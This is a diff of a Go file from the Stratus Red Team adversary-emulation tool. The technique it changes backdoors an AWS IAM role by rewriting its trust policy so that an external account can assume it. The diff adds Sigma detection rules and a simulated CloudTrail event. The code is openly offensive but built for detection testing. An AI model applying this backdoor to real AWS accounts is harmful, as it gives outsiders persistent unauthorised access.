@@ -1,20 +1,21 @@
 package aws
 
 import (
-	"context"
 	_ "embed"
 	"errors"
 	"github.com/aws/aws-sdk-go-v2/service/iam"
-	"github.com/datadog/stratus-red-team/internal/providers"
 	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/logs"
 	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
-	"log"
 	"strings"
 )
 
 //go:embed main.tf
 var tf []byte
 
+//go:embed sigma.yml
+var sigma []byte
+
 //go:embed malicious_policy.json
 var maliciousIamPolicy string
 
@@ -45,34 +46,37 @@ Detonation:
 - Through [IAM Access Analyzer](https://docs.aws.amazon.com/IAM/latest/UserGuide/access-analyzer-resources.html#access-analyzer-iam-role), 
 which generates a finding when a role can be assumed from a new AWS account or publicly.
 `,
+		SigmaRules:                 sigma,
 		Platform:                   stratus.AWS,
 		IsIdempotent:               true,
 		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence},
 		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"role_name", "role_trust_policy"},
 		Detonate:                   detonate,
+		Simulate:                   simulate,
 		Revert:                     revert,
 	})
 }
 
-func detonate(params map[string]string) error {
-	roleName := params["role_name"]
+func detonate(execution *stratus.ExecutionContext) error {
+	roleName := execution.Parameters["role_name"]
 
-	log.Println("Backdooring IAM role " + roleName + " by allowing sts:AssumeRole from an external AWS account")
-	err := updateAssumeRolePolicy(roleName, maliciousIamPolicy)
+	execution.Logger.Println("Backdooring IAM role " + roleName + " by allowing sts:AssumeRole from an external AWS account")
+	err := updateAssumeRolePolicy(execution, roleName, maliciousIamPolicy)
 	if err != nil {
 		return errors.New("unable to backdoor IAM role: " + err.Error())
 	}
 
-	log.Println("Update role trust policy with malicious policy:\n" + maliciousIamPolicy)
+	execution.Logger.Println("Update role trust policy with malicious policy:\n" + maliciousIamPolicy)
 	return nil
 }
 
-func revert(params map[string]string) error {
-	roleName := params["role_name"]
-	roleTrustPolicy := strings.ReplaceAll(params["role_trust_policy"], "\\", "") // Terraform output adds backslashes for some reason
+func revert(execution *stratus.ExecutionContext) error {
+	roleName := execution.Parameters["role_name"]
+	roleTrustPolicy := strings.ReplaceAll(execution.Parameters["role_trust_policy"], "\\", "") // Terraform output adds backslashes for some reason
 
-	log.Println("Reverting trust policy of IAM role " + roleName + " to its original state")
-	err := updateAssumeRolePolicy(roleName, roleTrustPolicy)
+	execution.Logger.Println("Reverting trust policy of IAM role " + roleName + " to its original state")
+	err := updateAssumeRolePolicy(execution, roleName, roleTrustPolicy)
 
 	if err != nil {
 		return errors.New("unable to backdoor IAM role: " + err.Error())
@@ -80,11 +84,21 @@ func revert(params map[string]string) error {
 	return nil
 }
 
-func updateAssumeRolePolicy(roleName string, roleTrustPolicy string) error {
-	iamClient := iam.NewFromConfig(providers.AWS().GetConnection())
-	_, err := iamClient.UpdateAssumeRolePolicy(context.Background(), &iam.UpdateAssumeRolePolicyInput{
+func updateAssumeRolePolicy(execution *stratus.ExecutionContext, roleName string, roleTrustPolicy string) error {
+	iamClient := iam.NewFromConfig(execution.AWS.GetConnection())
+	_, err := iamClient.UpdateAssumeRolePolicy(execution.Context, &iam.UpdateAssumeRolePolicyInput{
 		RoleName:       &roleName,
 		PolicyDocument: &roleTrustPolicy,
 	})
 	return err
 }
+
+// simulate generates the CloudTrail event of the trust policy of the role being updated
+func simulate(simulation *stratus.SimulationContext) []stratus.LogRecord {
+	return []stratus.LogRecord{
+		logs.CloudTrailEvent(simulation, "iam.amazonaws.com", "UpdateAssumeRolePolicy", map[string]interface{}{
+			"roleName":       "stratus-red-team-backdoor-role",
+			"policyDocument": maliciousIamPolicy,
+		}),
+	}
+}